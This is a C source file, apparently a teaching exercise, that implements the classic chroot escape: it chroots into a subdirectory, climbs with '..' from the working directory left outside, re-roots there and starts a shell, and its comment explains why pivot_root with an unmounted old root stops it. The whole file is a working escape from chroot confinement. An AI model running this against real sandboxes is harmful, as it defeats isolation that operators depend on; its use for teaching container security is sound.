/* escapa (lesson 07): the classic chroot escape, for a student to run inside a chroot and then inside a
 * pivot_root container. A process with CAP_SYS_CHROOT chroots into a subdirectory WITHOUT changing its
 * working directory, which is then outside its root; from there ".." climbs to the real root, and chroot(".")
 * makes that the root again, and a shell starts there. After pivot_root and an unmount of the old root, the climb ends at the
 * container's own root: nothing is left above it. Static, so it runs in the busybox rootfs. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  if (mkdir(".escapa", 0700) < 0 && errno != EEXIST) {
    fprintf(stderr, "escapa: mkdir .escapa: %s\n", strerror(errno));
    return 1;
  }
  if (chroot(".escapa") < 0) {
    fprintf(stderr, "escapa: chroot .escapa: %s\n", strerror(errno));
    return 1;
  }
  /* The working directory is still outside the new root: each ".." goes one level up, until "/" of the
   * mount namespace, where ".." stays put. */
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0) break;
  if (chroot(".") < 0) {
    fprintf(stderr, "escapa: chroot .: %s\n", strerror(errno));
    return 1;
  }
  /* bash where there is one (the sandbox's own root), else the sh of a busybox rootfs. */
  char *const bash[] = {"bash", NULL};
  execv("/bin/bash", bash);
  char *const sh[] = {"sh", NULL};
  execv("/bin/sh", sh);
  fprintf(stderr, "escapa: exec /bin/sh: %s\n", strerror(errno));
  return 1;
}
